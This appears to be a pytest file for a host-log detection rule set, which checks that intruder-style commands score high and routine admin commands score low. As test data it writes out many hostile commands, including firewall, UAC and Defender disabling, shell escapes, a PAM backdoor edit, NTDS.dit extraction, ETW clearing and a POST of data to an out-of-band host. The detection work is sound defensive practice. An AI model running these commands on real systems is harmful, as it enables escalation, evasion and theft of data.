"""What intruders do with programs of the system is told; what Windows and administrators do with them is not."""

import pytest

from detectors.played import decoded
from pipeline.detectors.logs.host_rule_set import HOST_RULES

SYSTEM32 = "C:\\Windows\\System32\\"
TOLD = 0.5


def _weight(command: str, image: str | None = None, parent: str = f"{SYSTEM32}cmd.exe") -> float:
    """The weightiest rule about the start of a program, named by the first word of its command where not given."""
    unix = command.startswith("/")
    name = command.split()[0]
    image = image or (name if unix else f"{SYSTEM32}{name}.exe")
    start = {"kind": "process", "action": "start", "ts": 1e6, "host": "h", "command_line": command, "image": image}
    hits = HOST_RULES.hits(decoded("logs", [start if unix else start | {"parent_image": parent}]))

    return max((HOST_RULES.rules[number].weight for number in hits.numbers), default=0.0)


@pytest.mark.parametrize(
    "command",
    [
        "certoc -GetCACAPS https://203.0.113.5/a", "hh -decompile C:\\x a.chm", "esentutl /y \\\\203.0.113.5\\s\\a.exe",
        "odbcconf /f C:\\x.rsp", "wlrmdr -s 3600 -f 0 -t _ -m _ -a 11 -u calc.exe", "tttracer C:\\x.exe",
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\x /v Driver /d x.dll /f",
        'reg add "HKLM\\Software\\Microsoft\\Command Processor" /v AutoRun /d x.cmd /f',
        "reg add HKLM\\Software\\Policies\\Microsoft\\WindowsFirewall\\DomainProfile /v EnableFirewall /d 0 /f",
        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0",
        "cmd /c copy C:\\Windows\\System32\\wscript.exe C:\\Users\\Public\\svchost.exe",
        "powershell Set-MpPreference -drtm $True", "powershell Add-Content $profile 'calc'",
        "/usr/bin/taskset 1 /bin/sh", "/usr/bin/vim -c ':!/bin/sh'", "/usr/bin/perl -e 'exec(\"/bin/sh\")'",
        "/bin/sh -c 'sed -i 1s,^,auth sufficient pam_succeed_if.so, /etc/pam.d/su'", "/usr/sbin/dsenableroot",
        "/usr/bin/osascript -e 'display dialog \"Password\" with hidden answer'", "/usr/sbin/spctl --master-disable",
        "/usr/bin/nsenter -t 1 -m sh", "wbadmin start backup -include:C:\\Windows\\NTDS\\ntds.dit -quiet",
        "/usr/bin/python3 /opt/unicorn.py windows/x", "powershell irm https://a1.oast.fun -Method Post -Body $x",
        "powershell Get-CimInstance MSFT_EtwTraceSession | Remove-CimInstance",
        "/bin/sh -c 'echo b > /proc/sysrq-trigger'", "/usr/bin/tmutil disable",
    ],
)  # fmt: skip
def test_ways_of_intruders(command: str) -> None:
    assert _weight(command) >= TOLD


@pytest.mark.parametrize(
    ("command", "image", "parent"),
    [
        ("hh \\\\files\\help\\viewer.chm", None, "C:\\Windows\\explorer.exe"),
        ("forfiles /p D:\\logs /d -30 /c \"cmd /c del @path\"", None, f"{SYSTEM32}cmd.exe"),
        ("conhost.exe 0xffffffff -ForceV1", f"{SYSTEM32}conhost.exe", f"{SYSTEM32}cmd.exe"),
        ("verclsid.exe /S /C {0B2C9183-C9FA-4C53-AE21-C900B0C39965} /X 0x401", None, "C:\\Windows\\explorer.exe"),
        ("rundll32 C:\\Windows\\Installer\\MSI4F5.tmp,zzzzInvokeManagedCustomActionOutOfProc x", None,
         f"{SYSTEM32}msiexec.exe"),
        ("Update.exe --processStart Teams.exe", "C:\\Users\\a\\AppData\\Local\\Teams\\Update.exe", "C:\\x.exe"),
        ("reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 1 /f", None,
         f"{SYSTEM32}cmd.exe"),
        ("reg add HKLM\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
         " /v EnableScriptBlockLogging /t REG_DWORD /d 1 /f", None, f"{SYSTEM32}cmd.exe"),
        ("xcopy D:\\data\\report.dll E:\\copy", None, f"{SYSTEM32}cmd.exe"),
        ("/usr/bin/find . -name a -exec sh -c 'wc -l \"$1\"' _ {} ;", None, ""),
        ("/usr/bin/docker exec -it db /bin/sh", None, ""), ("/usr/bin/nice -n 10 /bin/sh /opt/nightly.sh", None, ""),
        ("/usr/bin/mosh -p 124 anna@host", None, ""), ("/usr/bin/systemctl restart rsyslog", None, ""),
        ("/usr/bin/git push -p", None, ""), ("/usr/bin/curl -o a.html https://example.org", None, ""),
        ("wbadmin start backup -backuptarget:e: -include:C: -quiet", None, f"{SYSTEM32}cmd.exe"),
        ("/usr/bin/python3 /usr/bin/gunicorn -c /srv/app/gunicorn.py app:app", None, ""),
        ("powershell $t = New-Toast; $t.Show(); irm https://bus.example/matrix.io -Method Post -Body $toast.Xml", None,
         f"{SYSTEM32}cmd.exe"),
        ("powershell Get-CimInstance Win32_NetworkLoginProfile | Remove-CimInstance", None, f"{SYSTEM32}cmd.exe"),
        ("/usr/bin/crontab -l", None, ""), ("/usr/bin/tmutil listbackups", None, ""),
    ],
)  # fmt: skip
def test_ways_of_everybody(command: str, image: str | None, parent: str) -> None:
    assert _weight(command, image, parent) < TOLD
